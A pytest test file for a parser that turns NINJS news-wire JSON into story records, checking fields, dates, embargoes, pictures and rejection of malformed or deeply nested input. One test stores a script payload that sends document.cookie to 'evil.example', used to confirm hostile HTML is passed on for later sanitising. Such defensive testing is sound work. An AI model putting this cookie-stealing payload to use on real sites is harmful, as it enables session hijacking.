"""NINJS 1.x and 2.x objects read into stories: one mapping or one refusal per test."""

import datetime
import json

import pytest
from bs4 import BeautifulSoup

from newsdesk.ingest.parsers.ninjs import MAX_DEPTH, parse_ninjs
from newsdesk.ingest.stories import CANCELED, USABLE, WITHHELD, ParseError, Person, Picture, Subject
from newsdesk.ingest.tests import wire

UTC = datetime.UTC
BOTH = pytest.mark.parametrize("version", ["1.4", "2.0"])


def only_story(data: bytes):
    feed = parse_ninjs(data)
    assert feed.skipped == []
    [story] = feed.stories
    return story


def body(story) -> BeautifulSoup:
    return BeautifulSoup(story.body_html, "html.parser")


# Identity and status


@BOTH
def test_uri_is_the_guid(version):
    assert only_story(wire.ninjs_document(version=version, uri="urn:example:tram")).guid == "urn:example:tram"


@BOTH
def test_headline(version):
    story = only_story(wire.ninjs_document(version=version, headline="Tram line to the harbour opens"))
    assert story.headline == "Tram line to the harbour opens"


def test_2x_main_headline_is_chosen_over_others():
    headlines = [{"role": "short", "value": "Tram opens"}, {"role": "main", "value": "Tram line opens"}]
    assert only_story(wire.ninjs_document(headlines=headlines)).headline == "Tram line opens"


def test_version_string_is_read_as_a_number():
    assert only_story(wire.ninjs_document(item_version="3")).version == 3


def test_version_number_is_kept():
    assert only_story(wire.ninjs_document(version="1.4", item_version=5)).version == 5


def test_missing_version_is_version_one():
    assert only_story(wire.ninjs_document(item_version=None)).version == 1


def test_version_that_is_not_a_number_skips_the_item():
    feed = parse_ninjs(wire.ninjs_document(item_version="third"))
    assert feed.stories == []
    assert "version 'third' is not a positive number" in feed.skipped[0]


def test_missing_pubstatus_is_usable():
    assert only_story(wire.ninjs_document(pubstatus=None)).status == USABLE


def test_canceled_pubstatus():
    assert only_story(wire.ninjs_document(pubstatus="canceled")).status == CANCELED


def test_withheld_pubstatus():
    assert only_story(wire.ninjs_document(pubstatus="withheld")).status == WITHHELD


def test_unknown_pubstatus_is_held_back_with_a_note():
    story = only_story(wire.ninjs_document(pubstatus="draft"))
    assert story.status == WITHHELD
    assert "pubstatus 'draft'" in story.problems[0]


# Dates


def test_created_dates_are_aware_datetimes():
    story = only_story(wire.ninjs_document(firstcreated="2026-11-29T22:15:00+01:00", versioncreated=wire.WHEN))
    assert story.first_created == datetime.datetime(2026, 11, 29, 21, 15, tzinfo=UTC)
    assert story.version_created == datetime.datetime(2026, 11, 30, 9, 0, tzinfo=UTC)


def test_date_without_zone_is_read_as_utc_and_noted():
    story = only_story(wire.ninjs_document(versioncreated="2026-11-30T09:00:00"))
    assert story.version_created == datetime.datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
    assert "has no time zone" in story.problems[0]


def test_embargoed_is_embargoed_until():
    story = only_story(wire.ninjs_document(embargoed="2026-12-01T06:00:00Z"))
    assert story.embargoed_until == datetime.datetime(2026, 12, 1, 6, 0, tzinfo=UTC)


def test_embargo_without_zone_ends_at_the_latest_moment_it_can_mean():
    story = only_story(wire.ninjs_document(embargoed="2026-12-01T06:00:00"))
    assert story.embargoed_until == datetime.datetime(2026, 12, 1, 18, 0, tzinfo=UTC)


def test_embargo_that_cannot_be_read_skips_the_item():
    feed = parse_ninjs(wire.ninjs_document(embargoed="soon"))
    assert feed.stories == []
    assert "embargoed date 'soon' cannot be read" in feed.skipped[0]


# Text fields


def test_ednote_is_the_editor_note():
    assert only_story(wire.ninjs_document(ednote="Not for the web edition")).editor_note == "Not for the web edition"


@BOTH
def test_description_is_the_standfirst(version):
    story = only_story(wire.ninjs_document(version=version, description="Eleven minutes a crossing."))
    assert story.standfirst == "Eleven minutes a crossing."


def test_description_html_becomes_text():
    document = wire.ninjs_document(version="1.4", description="", description_html="<p>Eleven <b>minutes</b></p>")
    assert only_story(document).standfirst == "Eleven minutes"


def test_2x_summary_description_is_chosen():
    descriptions = [{"role": "caption", "value": "Not this"}, {"role": "summary", "value": "This one"}]
    assert only_story(wire.ninjs_document(descriptions=descriptions)).standfirst == "This one"


@BOTH
def test_html_body(version):
    story = only_story(wire.ninjs_document(version=version, body_paragraphs=["One.", "Two."]))
    assert [p.get_text() for p in body(story).select("p")] == ["One.", "Two."]


def test_2x_html_body_is_chosen_over_plain_text():
    bodies = [{"contenttype": "text/plain", "value": "Plain"}, {"contenttype": "text/html", "value": "<p>Marked</p>"}]
    assert only_story(wire.ninjs_document(bodies=bodies)).body_html == "<p>Marked</p>"


def test_plain_text_body_becomes_escaped_paragraphs():
    bodies = [{"contenttype": "text/plain", "value": "Fares <frozen>\nRoutes unchanged"}]
    story = only_story(wire.ninjs_document(bodies=bodies))
    assert [p.get_text() for p in body(story).select("p")] == ["Fares <frozen>", "Routes unchanged"]


def test_hostile_body_is_passed_on_as_a_string_for_the_service_to_sanitise():
    hostile = '<p>Hi</p><script>fetch("https://evil.example/" + document.cookie)</script>'
    assert only_story(wire.ninjs_document(body_html=hostile)).body_html == hostile


@BOTH
def test_byline_is_a_guest_person(version):
    story = only_story(wire.ninjs_document(version=version, byline="By Ines Marlow"))
    assert story.bylines == [Person(name="Ines Marlow", guest=True)]


def test_bylines_array_keeps_roles():
    bylines = [{"byline": "Ines Marlow", "role": "Correspondent"}, {"byline": "Tomas Berg", "role": "Photographer"}]
    story = only_story(wire.ninjs_document(bylines=bylines))
    assert story.bylines == [Person("Ines Marlow", "Correspondent"), Person("Tomas Berg", "Photographer")]


@BOTH
def test_subjects_keep_their_scheme(version):
    story = only_story(wire.ninjs_document(version=version, subjects=[("medtop:20000763", "housing")]))
    assert story.subjects == [Subject("medtop:20000763", "housing")]


def test_2x_subject_with_only_a_uri_is_coded_by_it():
    subjects = [{"name": "ferries", "uri": "http://cv.example.org/topics/ferries"}]
    assert only_story(wire.ninjs_document(subjects=subjects)).subjects == [
        Subject("http://cv.example.org/topics/ferries", "ferries")
    ]


def test_located():
    assert only_story(wire.ninjs_document(located="Porthaven")).located == "Porthaven"


def test_language():
    assert only_story(wire.ninjs_document(language="sv")).language == "sv"


def test_copyrightnotice_is_the_rights():
    assert only_story(wire.ninjs_document(copyrightnotice="(c) 2026 Example")).rights == "(c) 2026 Example"


def test_slugline():
    assert only_story(wire.ninjs_document(slugline="harbour-tram")).slugline == "harbour-tram"


# Pictures


@BOTH
def test_picture_association_gives_its_largest_rendition_with_caption_and_credit(version):
    picture = wire.WirePicture(href="https://media.example.org/ferry.jpg", caption="At the quay", credit="Example")
    [found] = only_story(wire.ninjs_document(version=version, pictures=[picture])).pictures
    assert found == Picture(url="https://media.example.org/ferry.jpg", caption="At the quay", credit="Example")


def test_1x_featuremedia_is_the_lead_picture():
    feature = {"type": "picture", "renditions": {"original": {"href": "https://media.example.org/lead.jpg"}}}
    other = {"type": "picture", "renditions": {"original": {"href": "https://media.example.org/other.jpg"}}}
    document = wire.ninjs_document(version="1.4", associations={"gallery1": other, "featuremedia": feature})
    assert [p.url for p in only_story(document).pictures] == [
        "https://media.example.org/lead.jpg",
        "https://media.example.org/other.jpg",
    ]


def test_picture_without_description_is_captioned_with_its_headline():
    association = {
        "name": "a",
        "type": "picture",
        "headline": "Ferry at dusk",
        "renditions": [{"href": "https://m/1.jpg"}],
    }
    [picture] = only_story(wire.ninjs_document(associations=[association])).pictures
    assert picture.caption == "Ferry at dusk"


def test_non_picture_associations_are_not_pictures():
    video = {
        "name": "clip",
        "type": "video",
        "renditions": [{"name": "mp4", "href": "https://media.example.org/a.mp4"}],
    }
    assert only_story(wire.ninjs_document(associations=[video])).pictures == []


# Documents of several items, and skipped items


def test_list_of_objects_gives_each_story():
    data = wire.ninjs_list(wire.ninjs_object(uri="urn:a"), wire.ninjs_object(version="1.4", uri="urn:b"))
    assert [story.guid for story in parse_ninjs(data).stories] == ["urn:a", "urn:b"]


def test_items_wrapper_gives_each_story():
    data = wire.ninjs_list(wire.ninjs_object(uri="urn:a"), wire.ninjs_object(uri="urn:b"), wrapped=True)
    assert [story.guid for story in parse_ninjs(data).stories] == ["urn:a", "urn:b"]


def test_item_without_uri_is_skipped_and_the_rest_go_on():
    feed = parse_ninjs(wire.ninjs_list(wire.ninjs_object(uri=""), wire.ninjs_object(uri="urn:b")))
    assert [story.guid for story in feed.stories] == ["urn:b"]
    assert feed.skipped == ["item 1: no uri"]


@BOTH
def test_item_without_headline_is_skipped(version):
    feed = parse_ninjs(wire.ninjs_document(version=version, uri="urn:a", headline=""))
    assert (feed.stories, feed.skipped) == ([], ["item urn:a: no headline"])


def test_item_that_is_not_an_object_is_skipped():
    feed = parse_ninjs(b'["urn:a"]')
    assert feed.skipped == ["item 1: not a JSON object"]


# Refused documents


def test_malformed_json_is_refused_with_its_position():
    with pytest.raises(ParseError, match="line 2 column 1"):
        parse_ninjs(b'{"uri": "urn:a",\n}')


@pytest.mark.parametrize("constant", [b"NaN", b"Infinity", b"-Infinity"])
def test_non_json_numbers_are_refused(constant):
    with pytest.raises(ParseError, match="is not a JSON number"):
        parse_ninjs(b'{"uri": "urn:a", "headline": "A", "urgency": ' + constant + b"}")


def test_deep_nesting_is_refused():
    extra: list = [1]
    for _ in range(MAX_DEPTH):
        extra = [extra]
    nested = json.dumps({"uri": "urn:a", "headline": "A", "extra": extra})
    with pytest.raises(ParseError, match=f"nested deeper than {MAX_DEPTH} levels"):
        parse_ninjs(nested.encode())


def test_nesting_past_the_json_readers_limit_is_refused():
    with pytest.raises(ParseError, match="nested deeper"):
        parse_ninjs(b"[" * 100_000 + b"]" * 100_000)


def test_bytes_that_are_not_utf8_are_refused():
    with pytest.raises(ParseError, match="not UTF-8"):
        parse_ninjs(b'{"uri": "urn:a", "headline": "Caf\xe9"}')


def test_json_that_is_not_an_object_or_list_is_refused():
    with pytest.raises(ParseError, match="not a NINJS object"):
        parse_ninjs(b'"just a string"')


def test_xml_is_not_ninjs():
    with pytest.raises(ParseError, match="not valid JSON"):
        parse_ninjs(wire.newsml_item())
